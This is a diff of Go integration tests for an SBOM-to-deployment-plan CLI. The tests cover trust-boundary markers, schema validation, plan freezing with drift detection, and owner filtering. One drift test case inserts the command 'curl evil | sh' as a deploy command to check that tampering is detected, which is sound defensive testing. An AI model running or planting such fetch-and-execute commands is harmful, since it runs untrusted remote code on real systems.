+	if !strings.Contains(stderr, "SBOM has 1 parse warning (--strict)") {
+		t.Errorf("Expected the --strict error, got: %s", stderr)
+	}
+}
+
+func TestIntegrationDOTLegend(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "compositions-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "-o", "dot", "--dot-legend")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != readGolden(t, "dot-compositions.dot") {
+		t.Errorf("Expected the golden dot output, got:\n%s", stdout)
+	}
+
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--dot-legend"); err == nil || !strings.Contains(stderr, "--dot-legend only applies to dot output") {
+		t.Errorf("Expected --dot-legend without -o dot to fail, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationShowTrust(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "trust-boundary-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--show-trust")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	for _, want := range []string{
+		"  - GeoIP Lookup (ref: geoip) [trust boundary, unauthenticated]\n",
+		"  - Payment Gateway (ref: payments) [trust boundary]\n",
+		"  - Inventory Service (ref: inventory)\n",
+		"  - Orders API (ref: orders-api)\n",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("Expected %q in output, got:\n%s", want, stdout)
+		}
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--show-trust", "-o", "groups")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "  - Payment Gateway (2024-06) [trust boundary]\n") {
+		t.Errorf("Expected the groups output to mark the gateway, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if strings.Contains(stdout, "trust boundary") {
+		t.Errorf("Expected no markers without --show-trust, got:\n%s", stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct {
+				BOMRef   string `json:"ref"`
+				Provider *struct {
+					Name string   `json:"name"`
+					URL  []string `json:"url"`
+				} `json:"provider"`
+				Authenticated  *bool `json:"authenticated"`
+				XTrustBoundary *bool `json:"x-trust-boundary"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Invalid JSON: %v\n%s", err, stdout)
+	}
+	found := 0
+	for _, step := range p.Steps {
+		for _, c := range step.Components {
+			switch c.BOMRef {
+			case "payments":
+				found++
+				if c.Provider == nil || c.Provider.Name != "Acme Payments" || len(c.Provider.URL) != 1 {
+					t.Errorf("Expected the payments provider verbatim, got %+v", c.Provider)
+				}
+				if c.Authenticated == nil || !*c.Authenticated || c.XTrustBoundary == nil || !*c.XTrustBoundary {
+					t.Errorf("Expected payments to be authenticated and cross the boundary, got %v %v", c.Authenticated, c.XTrustBoundary)
+				}
+			case "orders-api":
+				found++
+				if c.XTrustBoundary == nil || *c.XTrustBoundary {
+					t.Errorf("Expected an explicit x-trust-boundary: false, got %v", c.XTrustBoundary)
+				}
+			case "inventory":
+				found++
+				if c.Provider != nil || c.Authenticated != nil || c.XTrustBoundary != nil {
+					t.Errorf("Expected undeclared fields to be omitted, got %+v", c)
+				}
+			}
+		}
+	}
+	if found != 3 {
+		t.Errorf("Expected payments, orders-api and inventory in the plan, found %d", found)
+	}
+}
+
+func TestIntegrationSchema(t *testing.T) {
+	stdout, stderr, err := runBomDagger(t, "schema")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if want := string(mustReadFile(t, filepath.Join("..", "..", "internal", "plan", "plan.schema.json"))); stdout != want {
+		t.Errorf("Expected the embedded schema, got:\n%s", stdout)
+	}
+
+	// Every fixture's plan, with stats and provenance, matches the schema
+	fixtures, err := filepath.Glob(filepath.Join("..", "..", "testdata", "sboms", "*.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, fixture := range fixtures {
+		if strings.Contains(fixture, "cycle") {
+			continue
+		}
+		t.Run(filepath.Base(fixture), func(t *testing.T) {
+			_, stderr, err := runBomDagger(t, "-i", fixture, "-o", "json", "-s", "--validate-self", "--synthesize-missing", "--env", "prod")
+			if err != nil {
+				t.Errorf("Expected the plan to match the schema: %v\nStderr: %s", err, stderr)
+			}
+		})
+	}
+
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "diamond-1.6.json")
+	if _, stderr, err := runBomDagger(t, "-i", sbomPath, "--validate-self"); err == nil || !strings.Contains(stderr, "--validate-self only applies to JSON output") {
+		t.Errorf("Expected --validate-self without -o json to fail, got %v: %s", err, stderr)
+	}
+}
+
+func TestIntegrationFreeze(t *testing.T) {
+	original := strings.Replace(string(mustReadFile(t, filepath.Join("..", "..", "testdata", "sboms", "simple-1.6.json"))),
+		`"description": "A simple component"`,
+		`"description": "A simple component",
+      "properties": [{"name": "bom-dagger:deploy-command", "value": "./deploy.sh"}]`, 1)
+	dir := t.TempDir()
+	sbomPath := filepath.Join(dir, "sbom.json")
+	lockPath := filepath.Join(dir, "plan.lock")
+	writeSBOM := func(t *testing.T, content string) {
+		t.Helper()
+		if err := os.WriteFile(sbomPath, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	writeSBOM(t, original)
+	want, stderr, err := runBomDagger(t, "-i", sbomPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--freeze", lockPath)
+	if err != nil {
+		t.Fatalf("--freeze failed: %v\nStderr: %s", err, stderr)
+	}
+	if stdout != want {
+		t.Errorf("Expected --freeze to keep the normal output:\n%s\nwant\n%s", stdout, want)
+	}
+
+	// A lock is a JSON plan with fingerprints
+	var lock struct {
+		LockVersion      int    `json:"lockVersion"`
+		GraphFingerprint string `json:"graphFingerprint"`
+		OptionsHash      string `json:"optionsHash"`
+		SchemaVersion    int    `json:"schemaVersion"`
+		Steps            []struct {
+			Step int `json:"step"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal(mustReadFile(t, lockPath), &lock); err != nil {
+		t.Fatalf("Invalid lock: %v", err)
+	}
+	if lock.LockVersion != 1 || lock.SchemaVersion != 1 || len(lock.Steps) != 3 ||
+		!strings.HasPrefix(lock.GraphFingerprint, "sha256:") || !strings.HasPrefix(lock.OptionsHash, "sha256:") {
+		t.Errorf("Unexpected lock: %+v", lock)
+	}
+
+	tests := []struct {
+		name    string
+		content string
+		args    []string
+		want    []string
+	}{
+		{
+			name:    "unchanged",
+			content: original,
+			want:    []string{"Plan matches the frozen plan."},
+		},
+		{
+			// Any edit to the SBOM is drift, even one the plan ignores
+			name:    "metadata edited",
+			content: strings.Replace(original, "2024-01-15T10:00:00Z", "2024-02-01T08:30:00Z", 1),
+			want:    []string{"! input " + sbomPath + " changed: sha256:"},
+		},
+		{
+			name:    "serial number changed",
+			content: strings.Replace(original, "urn:uuid:3e8b2c3a-0000-4000-8000-000000000001", "urn:uuid:3e8b2c3a-0000-4000-8000-000000000002", 1),
+			want:    []string{"! input " + sbomPath + " changed: sha256:"},
+		},
+		{
+			// -o shell and --exec run the command, so it is fingerprinted
+			name:    "deploy command changed",
+			content: strings.Replace(original, "./deploy.sh", "curl evil | sh", 1),
+			want:    []string{"! graph changed: sha256:", "! input " + sbomPath + " changed: sha256:"},
+		},
+		{
+			name:    "version drift",
+			content: strings.Replace(original, `"version": "2.0.0"`, `"version": "2.1.0"`, 1),
+			want:    []string{"! graph changed: sha256:", "~ comp-b: version 2.0.0 -> 2.1.0"},
+		},
+		{
+			name: "topology drift",
+			content: strings.Replace(original, `"ref": "comp-b",
+      "dependsOn": ["comp-c"]`, `"ref": "comp-b",
+      "dependsOn": []`, 1),
+			want: []string{"! graph changed: sha256:", "~ comp-a: step 3 -> 2", "~ comp-b: step 2 -> 1",
+				"- comp-b -> comp-c (dependency removed)"},
+		},
+		{
+			name:    "options drift",
+			content: original,
+			args:    []string{"--infer-from-nesting"},
+			want:    []string{"! options changed: sha256:"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			writeSBOM(t, tt.content)
+			stdout, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath, "--verify-frozen", lockPath}, tt.args...)...)
+			drifted := !strings.Contains(tt.want[0], "matches")
+			if drifted != (err != nil) {
+				t.Errorf("Expected failure=%t, got %v\nStderr: %s", drifted, err, stderr)
+			}
+			if !strings.Contains(stdout, "=== Frozen Plan Check ===") {
+				t.Errorf("Expected the check header, got:\n%s", stdout)
+			}
+			for _, want := range tt.want {
+				if !strings.Contains(stdout, want) {
+					t.Errorf("Expected %q in output, got:\n%s", want, stdout)
+				}
+			}
+		})
+	}
+
+	_, stderr, err = runBomDagger(t, "-i", sbomPath, "--freeze", lockPath, "--verify-frozen", lockPath)
+	if err == nil || !strings.Contains(stderr, "--freeze and --verify-frozen are mutually exclusive") {
+		t.Errorf("Expected the flags to be rejected together, got %v\nStderr: %s", err, stderr)
+	}
+}
+
+func TestIntegrationOwners(t *testing.T) {
+	sbomPath := filepath.Join("..", "..", "testdata", "sboms", "owners-1.6.json")
+
+	stdout, stderr, err := runBomDagger(t, "-i", sbomPath, "--owner", "storefront-team")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	// Owned by supplier; the team keeps its global steps
+	want := "Step 1:\n  - Session Cache (ref: session-cache)\n\nStep 3:\n  - Storefront (ref: storefront)\n"
+	if !strings.HasSuffix(stdout, want) {
+		t.Errorf("Expected the storefront team's slice:\n%s\nGot:\n%s", want, stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-g", "--by-owner")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	want = "Group 1 (can deploy in parallel):\n" +
+		"  payments-team:\n" +
+		"    - Payments Database (15.4)\n" +
+		"  storefront-team:\n" +
+		"    - Session Cache (7.2)\n" +
+		"  unowned:\n" +
+		"    - Log Shipper (0.9.3)\n"
+	if !strings.Contains(stdout, want) {
+		t.Errorf("Expected group 1 split by owner:\n%s\nGot:\n%s", want, stdout)
+	}
+
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "-o", "json")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	var p struct {
+		Steps []struct {
+			Components []struct {
+				BOMRef string `json:"ref"`
+				Owner  string `json:"owner"`
+			} `json:"components"`
+		} `json:"steps"`
+	}
+	if err := json.Unmarshal([]byte(stdout), &p); err != nil {
+		t.Fatalf("Invalid JSON: %v\n%s", err, stdout)
+	}
+	owners := make(map[string]string)
+	for _, step := range p.Steps {
+		for _, c := range step.Components {
+			owners[c.BOMRef] = c.Owner
+		}
+	}
+	wantOwners := map[string]string{
+		"payments-db":   "payments-team",
+		"payments-api":  "payments-team",
+		"session-cache": "storefront-team",
+		"storefront":    "storefront-team",
+		"log-shipper":   "unowned",
+	}
+	if !reflect.DeepEqual(owners, wantOwners) {
+		t.Errorf("Expected owners %v, got %v", wantOwners, owners)
+	}
+
+	// Another property: only suppliers remain
+	stdout, stderr, err = runBomDagger(t, "-i", sbomPath, "--owner-property", "owner", "--owner", "unowned")
+	if err != nil {
+		t.Fatalf("Unexpected error: %v\nStderr: %s", err, stderr)
+	}
+	if !strings.Contains(stdout, "Payments API") || strings.Contains(stdout, "Storefront") {
+		t.Errorf("Expected the payments components to be unowned without bom-dagger:team, got:\n%s", stdout)
+	}
+
+	tests := []struct {
+		args []string
+		want string
+	}{
+		{[]string{"--owner", "ops-team"}, `no components owned by "ops-team" (owners: payments-team, storefront-team, unowned)`},
+		{[]string{"--by-owner"}, "--by-owner only applies to the groups output"},
+	}
+	for _, tt := range tests {
+		_, stderr, err := runBomDagger(t, append([]string{"-i", sbomPath}, tt.args...)...)
+		if err == nil || !strings.Contains(stderr, tt.want) {
+			t.Errorf("%v: expected error %q, got %v\nStderr: %s", tt.args, tt.want, err, stderr)
+		}
 	}
 }